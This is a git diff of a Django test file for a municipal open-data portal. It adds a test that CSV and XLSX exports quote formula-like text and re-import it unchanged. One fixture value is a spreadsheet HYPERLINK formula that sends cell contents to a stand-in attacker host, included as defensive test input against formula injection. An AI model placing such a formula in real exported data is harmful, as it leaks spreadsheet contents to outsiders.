@@ -6,6 +6,7 @@ import csv
 import io
 import json
 from datetime import date
+from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
@@ -15,23 +16,12 @@ from django.test import Client
 from wagtail.models import PageViewRestriction
 
 from plans.models import OpenDataPage
-from portal.translation import publish_translation
 from tests.plans.conftest import Monitoring, make_assessment
 
 pytestmark = pytest.mark.django_db
 
 FORMATS = ("csv", "xlsx", "json")
 TABLES = ("gosterge-degerleri", "eylem-durumlari")
-
-
-@pytest.fixture
-def open_data(monitoring: Monitoring) -> OpenDataPage:
-    """/tr/acik-veri/ and /en/open-data/ over the monitoring scenario."""
-    page = OpenDataPage(title="Açık veri", slug="acik-veri", intro="Onaylı veriler.")
-    monitoring.tree.home.add_child(instance=page)
-    page.save_revision().publish()
-    publish_translation(page, monitoring.tree.english, {"title": "Open data", "slug": "open-data"})
-    return page
 
 
 def rows_of(response, fmt: str) -> list[dict[str, str]]:
@@ -189,3 +179,62 @@ def test_an_open_data_download_re_imports_to_the_same_values(
         (value.date, value.disaggregation, value.value) for value in draft.indicator_values.all()
     )
     assert after == before
+
+
+#: Evidence and source notes a spreadsheet would run as formulas, and two that it would not.
+FORMULA_EVIDENCE = (
+    '=HYPERLINK("https://evil.example/?d="&A1,"Kanıt")',
+    "+90 216 000 00 00 numaralı hat kuruldu",
+    "- kreş açıldı\n- personel alındı",
+)
+FORMULA_SOURCE_NOTES = {"women": "@TÜİK", "men": "'=zaten tırnakla başlıyor", "total": "-5"}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_text_is_quoted_and_re_imports_to_the_stored_text(
+    client: Client, open_data: OpenDataPage, monitoring: Monitoring, fmt: str
+) -> None:
+    from plans.importer import import_monitoring_file
+
+    approved = monitoring.assessments[0]
+    evidence_of = dict(zip(monitoring.actions, FORMULA_EVIDENCE, strict=True))
+    for row in approved.action_rows.all():
+        row.evidence = evidence_of[row.action]
+        row.save()
+    for value in approved.indicator_values.all():
+        value.source_note = FORMULA_SOURCE_NOTES[value.disaggregation]
+        value.value = Decimal("-12.5") if value.disaggregation == "total" else value.value
+        value.save()
+    base = f"/tr/acik-veri/belediye/kadikoy/{{table}}/{fmt}/"
+    actions = client.get(base.format(table="eylem-durumlari"))
+    values = client.get(base.format(table="gosterge-degerleri"))
+
+    evidence_cells = {row["eylem"]: row["kanit"] for row in rows_of(actions, fmt)}
+    assert evidence_cells == {action.code: f"'{text}" for action, text in evidence_of.items()}
+    value_rows = {row["kirilim"]: row for row in rows_of(values, fmt)}
+    assert value_rows["women"]["kaynak"] == "'@TÜİK"
+    assert value_rows["men"]["kaynak"] == "''=zaten tırnakla başlıyor"
+    assert value_rows["total"]["kaynak"] == "-5"  # a number to a spreadsheet, left alone
+    assert value_rows["total"]["deger"] == "-12.5"
+
+    for download in (actions, values):
+        outcome = import_monitoring_file(
+            io.BytesIO(download.content),
+            f"export.{fmt}",
+            plan=monitoring.plan,
+            period=monitoring.periods[0],
+        )
+        assert outcome.ok, [issue.message for issue in outcome.issues]
+
+    draft = approved.get_latest_revision_as_object()
+    assert {row.action_id: row.evidence for row in draft.action_rows.all()} == {
+        action.pk: text for action, text in evidence_of.items()
+    }
+    assert {
+        value.disaggregation: (value.source_note, value.value)
+        for value in draft.indicator_values.all()
+    } == {
+        "women": ("@TÜİK", Decimal("31.5")),
+        "men": ("'=zaten tırnakla başlıyor", Decimal("28.5")),
+        "total": ("-5", Decimal("-12.5")),
+    }
